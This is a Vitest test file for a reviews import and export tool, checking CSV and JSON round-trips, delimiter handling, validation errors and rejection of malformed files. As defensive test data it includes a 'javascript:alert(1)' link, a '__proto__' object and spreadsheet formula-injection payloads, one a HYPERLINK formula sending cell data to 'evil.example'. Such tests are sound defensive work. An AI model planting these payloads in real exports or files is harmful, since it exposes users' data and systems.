import { expect, test } from 'vitest'
import { readReviews } from '#model/tools/love/read-reviews.ts'
import { mostInFile } from '#model/tools/love/review-file.ts'
import { type WrittenReview, writeJson, writeTable } from '#model/tools/love/write-reviews.ts'

const written: WrittenReview = {
  content: 'Two\nlines; with "quotes", and ’ all',
  rating: 4,
  name: 'Żaneta Łęcka',
  position: 'Studio, Łódź',
  email: 'zaneta@example.com',
  category: 'kurs, zdjęcia',
  state: 'accepted',
  confirmed: true,
  language: 'pl',
  source: 'form',
  sourceUrl: 'https://example.com/a',
  disclosure: 'incentive',
  reply: 'Dziękuję!',
  consentAt: '2026-01-02T03:04:05.000Z',
  createdAt: '2026-01-01T00:00:00.000Z',
  avatar: `_media/${'a'.repeat(64)}.png`,
  images: [`_media/${'b'.repeat(64)}.jpg`, `_media/${'c'.repeat(64)}.jpg`],
  gifs: [],
  video: null,
  videoCover: null,
  videoCaptions: '',
  highlights: ['Two', 'all, "too"'],
  isPinned: true,
}
const read = {
  ...written,
  consentAt: new Date('2026-01-02T03:04:05.000Z'),
  createdAt: new Date('2026-01-01T00:00:00.000Z'),
}

test.each([
  ['a Polish table', writeTable([written], 'pl')],
  ['an English table', writeTable([written], 'en')],
  ['JSON', writeJson([written])],
])('%s comes back as it was', (_, text) => {
  expect(readReviews(text)).toEqual({ reviews: [{ line: expect.any(Number), review: read }], problems: [] })
})

test.each([
  ['semicolons', 'treść;ocena;imię i nazwisko\nDobry; 5 ;Ewa\n'],
  ['commas', 'Rating,Content,Author\r\n5,Dobry,Ewa\r\n'],
  ['tabs', 'content\tstars\tname\nDobry\t5.0\tEwa'],
  ['a byte order mark and old line ends', '\uFEFFTREŚĆ;GWIAZDKI;AUTOR\rDobry;5,0;Ewa\r'],
  ['columns that nobody knows', 'id,content,rating,name,shoe size\n7,Dobry,5,Ewa,38'],
])('reads tables with %s', (_, text) => {
  const { reviews, problems } = readReviews(text)
  expect(problems).toEqual([])
  expect(reviews.map(({ review }) => [review.content, review.rating, review.name])).toEqual([
    ['Dobry', 5, 'Ewa'],
  ])
})

test('a list alone is enough as JSON', () => {
  expect(readReviews('[{"content":"Good"}]').reviews[0]?.review).toMatchObject({
    content: 'Good',
    rating: null,
  })
})

test('bad lines are told with their numbers and reasons, and cost the others nothing', () => {
  const text = [
    'content;rating;email;url;date;state',
    'Good;5;;;;',
    'Too many stars;6;;;;',
    ';5;;;;',
    '"Two',
    'lines";4;;;;',
    'No mail;;nobody;;;',
    'A bad link;;;javascript:alert(1);;',
    'Tomorrow;;;;2999-01-01;',
    'Unknown;;;;;published',
    '',
    'Last;1;ola@example.com;https://example.com;2026-02-03;rejected',
    'Broken "quotes;5;;;;',
    `${'x'.repeat(4_001)};5;;;;`,
  ].join('\n')
  const { reviews, problems } = readReviews(text)
  expect(reviews.map(({ line, review }) => [line, review.content])).toEqual([
    [2, 'Good'],
    [5, 'Two\nlines'],
    [12, 'Last'],
    [13, 'Broken "quotes'],
  ])
  expect(problems).toEqual([
    { line: 3, message: 'MAX_VALUE:5' },
    { line: 4, message: 'REQUIRED' },
    { line: 7, message: 'EMAIL' },
    { line: 8, message: 'URL' },
    { line: 9, message: 'ERR_INVALID_DATA' },
    { line: 10, message: 'CHOICE' },
    { line: 14, message: 'MAX_LENGTH:4000' },
  ])
})

test('a quotation mark that is not closed is told', () => {
  expect(readReviews('content\nGood\n"open').problems).toEqual([{ line: 3, message: 'QUOTES' }])
})

test.each([
  ['no names of columns', 'Good;5;Ewa\nBetter;5;Ola', { file: 'HEADER' }],
  ['a column twice', 'content;text\na;b', { file: 'HEADER' }],
  ['nothing', '', { file: 'HEADER' }],
  ['too many lines', `content\n${'x\n'.repeat(mostInFile + 1)}`, { file: `MAX_ITEMS:${mostInFile}` }],
  [
    'too many items',
    JSON.stringify(Array(mostInFile + 1).fill({ content: 'x' })),
    { file: `MAX_ITEMS:${mostInFile}` },
  ],
  ['half of JSON', '{"reviews":[', 'ERR_IMPORT_FORMAT'],
  ['other JSON', '{"questions":[]}', 'ERR_IMPORT_FORMAT'],
])('refuses a file with %s as a whole', (_, text, detail) => {
  expect(() => readReviews(text)).toThrow(expect.objectContaining({ detail }))
})

test('as many lines as there may be are read', () => {
  expect(readReviews(`content\n${'x\n'.repeat(mostInFile)}`).reviews.length).toBe(mostInFile)
})

test('JSON may not say more than there is to say', () => {
  const odd = [
    'null',
    '[1]',
    '"x"',
    '{"content":"x","projectId":"y"}',
    '{"content":["x"]}',
    '{"__proto__":{"content":"x"}}',
  ]
  const { reviews, problems } = readReviews(`[${odd.join(',')}]`)
  expect([reviews.length, problems.map(({ line }) => line)]).toEqual([0, [1, 2, 3, 4, 5, 6]])
})

test.each([
  '=1+1',
  '+48 123',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '=HYPERLINK("http://evil.example?"&A1)',
  "'=1",
  "''=1",
])('no spreadsheet runs %j, and it comes back as it was', formula => {
  for (const lang of ['pl', 'en'] as const) {
    const text = writeTable([{ ...written, name: formula, content: `${formula} x` }], lang)
    for (const cell of text.split(/[;,\n](?=")/)) expect(cell).not.toMatch(/^"[=+\-@\t\r]/)
    const [first] = readReviews(text).reviews
    expect([first?.review.name, first?.review.content]).toEqual([formula.trim(), `${formula} x`.trim()])
  }
})
